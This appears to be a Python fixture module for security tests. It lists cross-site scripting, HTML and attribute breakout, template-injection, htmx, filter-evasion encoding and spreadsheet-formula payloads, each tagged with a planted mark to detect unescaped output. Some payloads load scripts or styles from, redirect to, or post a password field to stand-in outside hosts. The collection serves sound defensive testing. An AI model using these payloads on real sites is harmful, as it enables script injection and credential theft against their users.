"""Strings that come to life on a page that prints them as they are. `{m}` stands for the mark of whoever planted one.

Each carries the mark where a parser would show it: in the name of an element or attribute, in code, or in an address.
"""

MARKUP = (
    # script elements
    "<script>__xss('{m}')</script>",
    "<SCRIPT>__xss('{m}')</SCRIPT>",
    "<ScRiPt >__xss('{m}')</sCrIpT\t>",
    "<script\n>__xss('{m}')</script\n>",
    "<script/{m}>__xss('{m}')</script>",
    "<script src=//{m}.example/x.js></script>",
    "<script src='data:text/javascript,__xss(/{m}/)'></script>",
    "<scr<script>ipt>__xss('{m}')</scr</script>ipt>",
    "<script>__xss('{m}')",
    "<<script>__xss('{m}')//<</script>",
    "<script type=module>__xss('{m}')</script>",
    "<noscript><p title='</noscript><img src=x onerror=__xss(/{m}/)>'>",
    # handlers of events
    "<img src=x onerror=__xss('{m}')>",
    '<img src="x" ONERROR="__xss(\'{m}\')">',
    "<IMG SRC=x OnErRoR\n=\n__xss(/{m}/)>",
    "<img/src=x/onerror=__xss(/{m}/)//",
    '<img """><script>__xss("{m}")</script>">',
    "<body onload=__xss('{m}')>",
    "<input autofocus onfocus=__xss('{m}')>",
    "<select autofocus onfocus=__xss('{m}')>",
    "<textarea autofocus onfocus=__xss('{m}')>",
    "<details open ontoggle=__xss('{m}')>",
    "<video><source onerror=__xss('{m}')></video>",
    "<audio src=x onerror=__xss('{m}')>",
    "<marquee onstart=__xss('{m}')>",
    "<div onpointerover=__xss('{m}') {m}>",
    "<p style=animation-name:spin onanimationstart=__xss('{m}')>",
    "<form><button formaction=javascript:__xss('{m}') {m}>",
    # drawings and formulas
    "<svg onload=__xss('{m}')>",
    "<svg/onload=__xss(/{m}/)>",
    "<svg><script>__xss('{m}')</script></svg>",
    "<svg><script href=data:,__xss(/{m}/)></script>",
    "<svg><animate onbegin=__xss('{m}') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss('{m}')><text {m}>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,{m}#x"></use></svg>',
    "<svg><style><img src=x onerror=__xss('{m}')></style></svg>",
    "<svg><foreignObject><iframe srcdoc='{m}'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss('{m}')>",
    "<math href=javascript:__xss('{m}') {m}>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:__xss('{m}')>x</maction></math>",
    # what loads or leads elsewhere
    "<iframe src=javascript:__xss('{m}')></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss('{m}')</script>\"></iframe>",
    "<iframe src='data:text/html,<script>__xss(/{m}/)</script>'></iframe>",
    "<object data=javascript:__xss('{m}')></object>",
    "<embed src=javascript:__xss('{m}')>",
    "<a href=javascript:__xss('{m}')>x</a>",
    "<a href='&#106;avascript:__xss(/{m}/)'>x</a>",
    "<a href='java\tscript:__xss(/{m}/)'>x</a>",
    "<a href=' \x01javascript:__xss(/{m}/)'>x</a>",
    "<a href=vbscript:{m}>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:__xss('{m}')\">",
    "<meta http-equiv=refresh content='0;url=//{m}.example/'>",
    "<base href=//{m}.example/>",
    "<link rel=stylesheet href=//{m}.example/x.css>",
    "<form action=//{m}.example/><input name=password>",
    # styles
    "<style>@import '//{m}.example/x.css';</style>",
    "<style>*{{background:url(//{m}.example/)}}</style>",
    "<div style=width:expression(__xss('{m}'))>",
    "<div style=\"background:url(javascript:__xss('{m}'))\">",
    # out of the element that a text stands in
    "</textarea><script>__xss('{m}')</script>",
    "</title><script>__xss('{m}')</script>",
    "</style><script>__xss('{m}')</script>",
    "</script><script>__xss('{m}')</script>",
    "</option></select><img src=x onerror=__xss('{m}')>",
    "</template><img src=x onerror=__xss('{m}')>",
    "</noscript><img src=x onerror=__xss('{m}')>",
    "--><img src=x onerror=__xss('{m}')><!--",
    "--!><img src=x onerror=__xss('{m}')>",
    "]]><img src=x onerror=__xss('{m}')><![CDATA[",
    "<!-- {m} --><{m}>",
    "<?{m} ?><{m}/>",
    # out of an attribute
    "\" autofocus onfocus=__xss('{m}') x=\"",
    "' autofocus onfocus=__xss(/{m}/) x='",
    "\"><img src=x onerror=__xss('{m}')>",
    "'><img src=x onerror=__xss(/{m}/)>",
    "` onmouseover=__xss(/{m}/) `",
    "x onpointerover=__xss(/{m}/) {m}=1",
    '\\" onfocus=__xss(/{m}/) {m} \\"',
    "&quot; {m}=1 &quot;",
    "&#34;><{m}>",
    # out of a string in a script
    "\";__xss('{m}');//",
    '\';__xss("{m}");//',
    "\\';__xss(/{m}/);//",
    '{{"a":"</script><script>__xss(\'{m}\')</script>"}}',
    "\u2028__xss('{m}')//\u2029",
    "${{__xss('{m}')}}",
    "`-__xss('{m}')-`",
    # templates, ours and those of browsers
    "{{{{7*7}}}}{m}",
    "{{{{config}}}}{{{{self.__init__.__globals__}}}}{m}",
    "{{% for x in range(9) %}}{m}{{% endfor %}}",
    "{{# {m} #}}",
    "{m}#{{7*7}}<%= 7*7 %>",
    # htmx would act on these
    "<b hx-get=/console/signout hx-trigger=load {m}>",
    "<b hx-on:load=__xss('{m}') hx-trigger=load>",
    "<b hx-on::after-settle=\"__xss('{m}')\">",
    "<b hx-vals='js:{{x:__xss(/{m}/)}}' hx-post=/ hx-trigger=load {m}>",
    "<b data-hx-get=//{m}.example/ data-hx-trigger=load>",
    '" hx-get=//{m}.example/ hx-trigger=load x="',
    # spelling that a filter overlooks
    "＜script＞__xss('{m}')＜/script＞",
    "%3Cscript%3E__xss('{m}')%3C/script%3E",
    "&lt;script&gt;__xss('{m}')&lt;/script&gt;",
    "&amp;lt;{m}&amp;gt;",
    "\\u003c{m}\\u003e\\x3c{m}\\x3e",
    "+ADw-script+AD4-{m}+ADw-/script+AD4-",
    "<\x00script>__xss('{m}')</script>",
    "<scr\x00ipt>__xss('{m}')</scr\x00ipt>",
    "<İmg {m}><ſcript>__xss('{m}')</ſcript>",
    "<img\x0bsrc=x\x0conerror=__xss('{m}')>",
    "\u202e<img src=x onerror=__xss('{m}')>\u202c",
    "\u200b<\u200bscript>\ufeff{m}<{m}>",
    "👷‍♀️<b {m}>👩‍🏭🇨🇳\U000e0041",
    "\x1b[31m{m}\x07\x08<{m}>",
    "(((((<[[[{m}]]]>))))) \\n\\r\\t <{m}\\>",
)
"""Once somewhere in a text."""

ADDRESSES = (
    "javascript:__xss('{m}')",
    "JaVaScRiPt:__xss('{m}')",
    "java\nscript:__xss('{m}')",
    "\x01 javascript:__xss('{m}')",
    "javascript&colon;__xss('{m}')",
    "data:text/html,<script>__xss('{m}')</script>",
    "vbscript:msgbox('{m}')",
    "//{m}.example/\"><img src=x onerror=__xss('{m}')>",
    "https://{m}.example/?a=\"onmouseover=__xss('{m}')&b='<{m}>",
    "/\\{m}.example/",
)
"""In the place of an address."""

SHORT = ("<i {m}>", '"><i {m}>', "'><i {m}>", "</title><{m}>", "<{m}/", "{m}<svg>&lt;")
"""Where only some twenty characters fit."""

FORMULAS = ('=1+1&"{m}"', "+{m}", "-{m}", "@{m}", "\t={m}", "\r={m}", "'={m}")
"""A spreadsheet would reckon these."""


def fit(text: str, mark: str) -> str:
    """With the mark in place."""
    return text.format(m=mark)
